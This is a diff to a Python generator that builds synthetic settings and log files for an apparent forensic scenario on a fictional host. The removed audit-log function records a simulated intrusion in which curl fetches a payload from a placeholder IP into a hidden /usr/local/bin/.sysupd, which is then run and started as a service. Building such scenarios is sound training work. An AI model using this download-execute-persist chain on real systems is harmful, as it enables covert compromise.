@@ -1,25 +1,14 @@
 """Texts of the host: settings and logs."""
 import os
-import random
 import struct
 import subprocess
 import tempfile
-from datetime import datetime, timezone
 
-INSTANCE = "i-0f3a9c1d2b4e5f607"
+from story_audit import RULES, SETTINGS
+from story_login import (BOOTED, HOST_KEY, INSTANCE, PROFILE, at, stamp)
+
 MACHINE = "ec20f3a9c1d2b4e5f60711223344aabb"
 BOOT_ID = "f0c0cabed8404e399a6a46699ee33e5f"   # as the memory sample says
-BOOTED = 1773015000.738
-
-
-def at(day, hour, minute, second):
-    """UTC; days of March 2026, those before its first are of February."""
-    return 1772323200 + ((day - 1) * 24 + hour) * 3600 + minute * 60 + second
-
-
-def stamp(t):
-    d = datetime.fromtimestamp(t, timezone.utc)
-    return "%s %2d %s" % (d.strftime("%b"), d.day, d.strftime("%H:%M:%S"))
 
 
 def zone():
@@ -51,14 +40,17 @@ def etc_files():
                        "PARTLABEL=EFI\\040System\\040Partition /boot/efi vfat "
                        "defaults,noatime,uid=0,gid=0,umask=0077 0 2\n"),
         "/etc/ssh/sshd_config": (0o600, "PasswordAuthentication no\n"
+                                 "KbdInteractiveAuthentication yes\n"
                                  "PermitRootLogin no\nUsePAM yes\n"),
         "/etc/ssh/ssh_host_ed25519_key.pub":
-            (0o644, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEhostKEYnot"
-             "REAL0000000000000000 app-01\n"),
+            (0o644, "ssh-ed25519 %s root@app-01\n" % HOST_KEY),
         "/etc/sudoers.d/90-cloud-init-users":
             (0o440, "ec2-user ALL=(ALL) NOPASSWD:ALL\n"),
         "/etc/cron.d/0hourly": (0o644, "01 * * * * root run-parts "
                                 "/etc/cron.hourly\n"),
+        "/etc/profile.d/history.sh": (0o644, PROFILE),
+        "/etc/audit/auditd.conf": (0o640, SETTINGS),
+        "/etc/audit/rules.d/audit.rules": (0o600, RULES),
         "/usr/lib/systemd/system/crond.service":
             (0o644, "[Service]\nExecStart=/usr/sbin/crond -n\n"),
         "/usr/lib/systemd/system/sshd.service":
@@ -95,83 +87,6 @@ def messages(_, day):
         rows = [(at(9 + h // 24, h % 24, 1, 1), "crond[82]: (root) CMD "
                  "(run-parts /etc/cron.hourly)") for h in range(1, 48)]
     return "".join("%s app-01 %s\n" % (stamp(t), x) for t, x in rows)
-
-
-def secure(day):
-    if day == 9:
-        t = at(9, 0, 47, 31)
-        rows = [(t, "sshd[1204]: Accepted publickey for ec2-user from "
-                 "192.0.2.10 port 50122 ssh2: ED25519 SHA256:EXAMPLEonly"),
-                (t, "sshd[1204]: pam_unix(sshd:session): session opened for "
-                 "user ec2-user(uid=1000) by (uid=0)"),
-                (t + 150, "sudo[1233]: ec2-user : TTY=pts/0 ; "
-                 "PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/sbin/mkfs."
-                 "ext4 -L data /dev/nvme1n1"),
-                (at(9, 1, 3, 30), "sshd[1204]: pam_unix(sshd:session): "
-                 "session closed for user ec2-user")]
-    else:
-        rows = [(at(11, 1, 41, 20 + i), "sshd[%d]: Connection closed by "
-                 "192.0.2.99 port %d [preauth]" % (30411 + i, 44100 + i))
-                for i in range(6)]
-    return "".join("%s app-01 %s\n" % (stamp(t), x) for t, x in rows)
-
-
-def utmp(kind, pid, line, ident, user, host, t, addr=b"\0\0\0\0"):
-    return struct.pack("<hxxi32s4s32s256shhiii4s12x20x", kind, pid, line,
-                       ident, user, host, 0, 0, 0, t, 0, addr)
-
-
-def wtmp(login):
-    if not login:
-        return utmp(2, 0, b"~", b"~~", b"reboot", b"6.1.0-56-cloud-amd64",
-                    int(BOOTED) + 1)
-    t = at(9, 0, 47, 31)
-    return utmp(7, 1204, b"pts/0", b"ts/0", b"ec2-user", b"192.0.2.10", t,
-                bytes((192, 0, 2, 10))) + \
-        utmp(8, 1204, b"pts/0", b"", b"", b"", at(9, 1, 3, 30))
-
-
-def audit_old():
-    """Two days of a rule that watches the site's connections: 1.5 MiB.
-    Pairs of milliseconds and line."""
-    rng, out = random.Random(7), []
-    t, serial = at(9, 1, 0, 0) * 1000, 4100
-    while t < at(11, 1, 5, 0) * 1000:
-        t += rng.randrange(20000, 60000)
-        serial += 1
-        out.append((t,
-            'type=SYSCALL msg=audit(%d.%03d:%d): arch=c000003e syscall=42 '
-            'success=yes exit=0 a0=%x a1=7ffe%08x a2=10 a3=0 items=0 ppid=1 '
-            'pid=%d auid=4294967295 uid=1001 gid=1001 euid=1001 suid=1001 '
-            'fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) '
-            'ses=4294967295 comm="gunicorn" exe="/usr/bin/python3.9" '
-            'subj=system_u:system_r:unconfined_service_t:s0 key="net"\n' % (
-                t // 1000, t % 1000, serial, rng.randrange(5, 40),
-                rng.randrange(2 ** 32), 1300 + serial % 4)))
-    return out
-
-
-def audit_lines():
-    def row(kind, t, ms, serial, text):
-        return "type=%s msg=audit(%d.%03d:%d): %s\n" % (kind, t, ms, serial,
-                                                        text)
-    t, root = at(11, 3, 20, 14), "auid=4294967295 uid=0 gid=0 euid=0"
-    execve = ("arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=%d "
-              "pid=%d " + root + ' comm="%s" exe="%s" key="exec"')
-    return "".join((
-        row("SYSCALL", t, 702, 9001, execve % (88, 89, "bash",
-                                               "/usr/bin/bash")),
-        row("EXECVE", t, 702, 9001, 'argc=2 a0="/bin/bash" a1="_script.sh"'),
-        row("SYSCALL", t + 1, 44, 9002, execve % (89, 90, "curl",
-                                                  "/usr/bin/curl")),
-        row("EXECVE", t + 1, 44, 9002, 'argc=5 a0="curl" a1="-fsS" a2="-o" '
-            'a3="/usr/local/bin/.sysupd" a4="http://198.51.100.66/u"'),
-        row("SYSCALL", t + 3, 9, 9003, execve % (1, 92, ".sysupd",
-                                                 "/usr/local/bin/.sysupd")),
-        row("EXECVE", t + 3, 9, 9003, 'argc=1 a0="/usr/local/bin/.sysupd"'),
-        row("SERVICE_START", at(11, 3, 33, 18), 893, 9011, "pid=1 uid=0 "
-            "auid=4294967295 ses=4294967295 msg='unit=sysupd comm=\"systemd\" "
-            "exe=\"/usr/lib/systemd/systemd\" res=success'")))
 
 
 def journal(events):
